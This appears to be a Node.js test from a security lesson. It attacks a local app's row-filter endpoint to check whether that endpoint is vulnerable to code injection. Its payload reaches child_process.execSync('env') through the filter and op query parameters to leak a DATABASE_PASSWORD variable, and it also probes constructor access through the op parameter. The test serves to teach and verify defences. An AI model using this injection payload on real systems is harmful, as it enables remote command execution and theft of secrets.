// A filter that reads the environment (step 1, in the form that the lesson gives for Node.js).
//
// samples: bad 1, good 1
'use strict';

const { BAD, attack, load, quoted, run, serve, use } = require('attack');

process.env.DATABASE_PASSWORD = 'of the database';
// Where Node.js has no `process.getBuiltinModule` yet, the lesson has another form.
const modules = process.getBuiltinModule ? 'process.getBuiltinModule' : 'process.mainModule.require';

run(async () => {
  const { app } = load(['app']);
  const ask = await serve(app);
  use((await ask('GET', BAD ? '/rows?filter=row.price%20%3C%2010' : '/rows?op=below&limit=10')).text);
  const payload = quoted("process.getBuiltinModule('child_process').execSync('env').toString()");
  const stolen = `(row.price = ${payload.replace('process.getBuiltinModule', modules)})`;
  const { status, text } = await ask('GET', `/rows?filter=${encodeURIComponent(stolen)}&op=${encodeURIComponent(stolen)}&limit=10`);
  const inherited = await ask('GET', '/rows?filter=false&op=constructor&limit=10');
  attack(text.includes('DATABASE_PASSWORD=of the database'), [status, text.slice(0, 80), inherited.status]);
});
